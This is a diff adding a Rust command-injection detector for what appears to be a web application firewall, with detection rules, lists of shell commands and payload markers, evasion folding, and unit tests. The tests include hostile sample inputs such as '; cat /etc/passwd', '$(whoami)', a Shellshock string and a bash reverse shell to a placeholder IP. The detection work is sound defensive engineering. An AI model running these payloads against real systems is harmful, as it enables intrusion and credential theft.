@@ -1,0 +1,358 @@
+//! OS command injection detection.
+//!
+//! Owns: recognising a shell separator or substitution followed by a command, in a
+//! lowercased, decoded value, after folding shell evasions (`${IFS}`, `$IFS$9`, empty quotes
+//! `c''at`, backslash-escaped letters `c\at`):
+//!
+//! | rule | family |
+//! | --- | --- |
+//! | `waf-cmdi-400` | separator (`;`, `|`, `||`, `&`, `&&`) + command (`; cat /etc/passwd`, `| id`) |
+//! | `waf-cmdi-401` | command substitution: `$(…)` and backticks around a command |
+//! | `waf-cmdi-402` | `${IFS}` / `$IFS` whitespace evasion, brace expansion `{cat,/etc/passwd}` |
+//! | `waf-cmdi-403` | newline (`%0a`) followed by a command |
+//! | `waf-cmdi-404` | shell payload markers: `/dev/tcp/`, `bash -i`, `nc -e`, `mkfifo`, `cmd.exe /c` |
+//! | `waf-cmdi-405` | Shellshock function definition `() {` |
+//!
+//! Does not own: the once-only decode (so `%0a` arrives here as a newline).
+
+use crate::Strength;
+use memchr::memmem;
+
+/// Commands unlikely as ordinary words: any separator before them is enough.
+const DISTINCT: &[&str] = &[
+    "whoami",
+    "uname",
+    "ifconfig",
+    "ipconfig",
+    "nslookup",
+    "wget",
+    "curl",
+    "netcat",
+    "ncat",
+    "nc",
+    "bash",
+    "sh",
+    "zsh",
+    "ksh",
+    "powershell",
+    "systeminfo",
+    "busybox",
+    "telnet",
+    "tftp",
+    "python",
+    "python3",
+    "perl",
+    "php",
+    "ruby",
+    "chmod",
+    "chown",
+    "passwd",
+    "netstat",
+    "hostname",
+    "useradd",
+    "crontab",
+    "xterm",
+    "nohup",
+    "base64",
+    "certutil",
+    "bitsadmin",
+    "cmd",
+    "cmd.exe",
+    "id",
+    "pwd",
+    "ls",
+    "lua",
+    "socat",
+    "getent",
+    "sudo",
+    "dig",
+    "host",
+    "nmap",
+    "tasklist",
+    "wmic",
+    "reg",
+    "net.exe",
+    "sleep",
+    "ping",
+    "env",
+    "printenv",
+    "rm",
+    "uptime",
+    "w",
+    "who",
+    "last",
+    "ps",
+    "finger",
+];
+
+/// Commands that are also common words: they need a flag, path, or `$` argument.
+const WORDY: &[&str] = &[
+    "cat", "type", "echo", "kill", "dir", "net", "more", "less", "head", "tail", "find", "grep", "touch",
+    "cp", "mv", "set", "export", "exec", "eval", "awk", "sed", "mail", "date", "whois", "which", "file",
+    "time", "expr", "tee", "xargs", "od", "strings", "sort", "uniq",
+];
+
+/// Looks for command injection in a lowercased, decoded value.
+pub(crate) fn detect(s: &str) -> Option<(&'static str, Strength)> {
+    let raw = s.as_bytes();
+    if !raw
+        .iter()
+        .any(|&b| matches!(b, b';' | b'|' | b'&' | b'`' | b'$' | b'\n' | b'\r' | b'(' | b'{'))
+    {
+        return None;
+    }
+    let mut best: Option<(&'static str, Strength)> = None;
+    let mut note = |id: &'static str, st: Strength| {
+        if best.map_or(true, |b| st < b.1) {
+            best = Some((id, st));
+        }
+    };
+    let head = raw.trim_ascii_start();
+    if head.starts_with(b"() {") || head.starts_with(b"(){") {
+        note("waf-cmdi-405", Strength::Strong);
+    }
+    if memmem::find(raw, b"${ifs}").is_some() || memmem::find(raw, b"$ifs").is_some() {
+        note("waf-cmdi-402", Strength::Strong);
+    }
+    let f = fold(s);
+    let b = f.as_bytes();
+    for marker in [
+        &b"/dev/tcp/"[..],
+        b"/dev/udp/",
+        b"bash -i",
+        b"sh -i",
+        b"nc -e",
+        b"nc -l",
+        b"ncat -e",
+        b"mkfifo",
+        b"cmd.exe /c",
+        b"cmd /c",
+        b"powershell -",
+        b"/bin/sh",
+        b"/bin/bash",
+        b"/bin/cat",
+        b"/bin/ls",
+        b"/usr/bin/id",
+        b"/bin/id",
+    ] {
+        if memmem::find(b, marker).is_some() {
+            note("waf-cmdi-404", Strength::Medium);
+        }
+    }
+    let mut i = 0;
+    while i < b.len() {
+        let c = b[i];
+        let (id, sep_len, strong_sep) = match c {
+            b';' => ("waf-cmdi-400", 1, false),
+            b'|' => (
+                "waf-cmdi-400",
+                if b.get(i + 1) == Some(&b'|') { 2 } else { 1 },
+                true,
+            ),
+            b'&' => (
+                "waf-cmdi-400",
+                if b.get(i + 1) == Some(&b'&') { 2 } else { 1 },
+                b.get(i + 1) == Some(&b'&'),
+            ),
+            b'\n' | b'\r' => ("waf-cmdi-403", 1, true),
+            b'`' => ("waf-cmdi-401", 1, true),
+            b'$' if b.get(i + 1) == Some(&b'(') => ("waf-cmdi-401", 2, true),
+            b'{' => ("waf-cmdi-402", 1, false),
+            _ => {
+                i += 1;
+                continue;
+            }
+        };
+        let at = i + sep_len;
+        // Markdown code spans (`ls -la` in prose) open after a space; shell injection
+        // glues the backtick to the argument it rides on (`x`id``, `=`id``).
+        let code_span = c == b'`' && i > 0 && b[i - 1] == b' ';
+        i = at;
+        if let Some(st) = command_at(b, at, c, strong_sep) {
+            note(id, if code_span { Strength::Weak } else { st });
+        }
+    }
+    best
+}
+
+/// Strength of a command word starting at `at` (after optional spaces and `/bin/`-style paths).
+fn command_at(b: &[u8], mut at: usize, sep: u8, strong_sep: bool) -> Option<Strength> {
+    while at < b.len() && matches!(b[at], b' ' | b'\t') {
+        at += 1;
+    }
+    let mut pathed = false;
+    for prefix in [
+        &b"/usr/local/bin/"[..],
+        b"/usr/bin/",
+        b"/bin/",
+        b"/usr/sbin/",
+        b"/sbin/",
+    ] {
+        if b[at..].starts_with(prefix) {
+            at += prefix.len();
+            pathed = true;
+            break;
+        }
+    }
+    let start = at;
+    while at < b.len() && (b[at].is_ascii_alphanumeric() || b[at] == b'.' || b[at] == b'_') {
+        at += 1;
+    }
+    let word = std::str::from_utf8(&b[start..at]).ok()?;
+    if word.is_empty() {
+        return None;
+    }
+    let after = b.get(at).copied();
+    let boundary = matches!(
+        after,
+        None | Some(b' ' | b'\t' | b';' | b'|' | b'&' | b'<' | b'>' | b'`' | b')' | b'\n' | b'\r' | b',')
+    );
+    if !boundary {
+        return None;
+    }
+    let rest = &b[at..];
+    let arg = rest.trim_ascii_start();
+    let argy = arg.starts_with(b"/")
+        || arg.starts_with(b"-")
+        || arg.starts_with(b"$")
+        || arg.starts_with(b"~")
+        || arg.starts_with(b"c:")
+        || arg.starts_with(b"%")
+        || arg.starts_with(b"../")
+        || arg.first().is_some_and(u8::is_ascii_digit);
+    // `{cat,/etc/passwd}` needs a comma right after the command.
+    if sep == b'{' {
+        return (after == Some(b',') && (DISTINCT.contains(&word) || WORDY.contains(&word)))
+            .then_some(Strength::Medium);
+    }
+    let closing = match sep {
+        b'`' => memchr::memchr(b'`', &rest[..rest.len().min(256)]).is_some(),
+        b'$' => memchr::memchr(b')', &rest[..rest.len().min(256)]).is_some(),
+        _ => true,
+    };
+    let substitution = matches!(sep, b'`' | b'$');
+    // A command standing alone between separators (`;id;`, `|dir`, `&quot;;id&quot;`).
+    let alone = matches!(arg.first(), None | Some(b';' | b'|' | b'&' | b'`' | b')'));
+    if word == "net"
+        && ["user", "localgroup", "share", "view", "group"]
+            .iter()
+            .any(|w| arg.starts_with(w.as_bytes()))
+    {
+        return Some(Strength::Medium);
+    }
+    if DISTINCT.contains(&word) || pathed {
+        if pathed || substitution && closing || argy || strong_sep && rest.trim_ascii().is_empty() {
+            return Some(Strength::Strong);
+        }
+        if short_word(word) && !strong_sep && !alone {
+            // `; id` style words that double as prose ("; w" "; host name") need more.
+            return Some(Strength::Weak);
+        }
+        return Some(Strength::Medium);
+    }
+    if WORDY.contains(&word) {
+        if alone && sep != b';' || alone && rest.is_empty() && word.len() > 2 {
+            return Some(Strength::Medium);
+        }
+        if argy {
+            return Some(if strong_sep {
+                Strength::Strong
+            } else {
+                Strength::Medium
+            });
+        }
+        return Some(Strength::Weak);
+    }
+    None
+}
+
+fn short_word(w: &str) -> bool {
+    matches!(
+        w,
+        "w" | "who"
+            | "last"
+            | "host"
+            | "id"
+            | "ps"
+            | "env"
+            | "sleep"
+            | "ping"
+            | "rm"
+            | "reg"
+            | "dig"
+            | "sh"
+            | "nc"
+    )
+}
+
+/// Removes evasion padding: `${IFS}`/`$IFS$9` → space, empty quote pairs, `\` before letters.
+fn fold(s: &str) -> String {
+    let s = s
+        .replace("${ifs}", " ")
+        .replace("$ifs$9", " ")
+        .replace("$ifs", " ");
+    let b = s.as_bytes();
+    let mut out = Vec::with_capacity(b.len());
+    let mut i = 0;
+    while i < b.len() {
+        match (b[i], b.get(i + 1)) {
+            (b'\'', Some(b'\'')) | (b'"', Some(b'"')) => i += 2,
+            // `w'h'o'am'i`: a quote between letters is shell concatenation.
+            (b'\'' | b'"', Some(n))
+                if n.is_ascii_alphabetic() && out.last().is_some_and(u8::is_ascii_alphabetic) =>
+            {
+                i += 1
+            }
+            (b'\\', Some(c)) if c.is_ascii_alphabetic() => i += 1,
+            (c, _) => {
+                out.push(c);
+                i += 1;
+            }
+        }
+    }
+    String::from_utf8(out).unwrap_or_default()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn rule(s: &str) -> Option<&'static str> {
+        detect(s).filter(|h| h.1 != Strength::Weak).map(|h| h.0)
+    }
+
+    #[test]
+    fn detects_families() {
+        assert_eq!(rule("x; cat /etc/passwd"), Some("waf-cmdi-400"));
+        assert_eq!(rule("1 | id"), Some("waf-cmdi-400"));
+        assert_eq!(rule("a && whoami"), Some("waf-cmdi-400"));
+        assert_eq!(rule("$(whoami)"), Some("waf-cmdi-401"));
+        assert_eq!(rule("`id`"), Some("waf-cmdi-401"));
+        assert_eq!(rule(";cat${ifs}/etc/passwd"), Some("waf-cmdi-402"));
+        assert_eq!(rule("x\nid"), Some("waf-cmdi-403"));
+        assert_eq!(
+            rule("x; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"),
+            Some("waf-cmdi-400")
+        );
+        assert_eq!(rule("() { :; }; /bin/bash -c id"), Some("waf-cmdi-405"));
+        assert_eq!(rule(";c''at /etc/passwd"), Some("waf-cmdi-400"));
+    }
+
+    #[test]
+    fn leaves_prose_alone() {
+        for ok in [
+            "rock & roll",
+            "salt & pepper; cat food",
+            "tom & jerry",
+            "$(document).ready(function(){})",
+            "this | that",
+            "r&b hits",
+            "a; b; c",
+            "fish & chips",
+            "price: $5 (approx)",
+            "tips & tricks; find the best",
+        ] {
+            assert_eq!(rule(ok), None, "{ok}");
+        }
+    }
+}
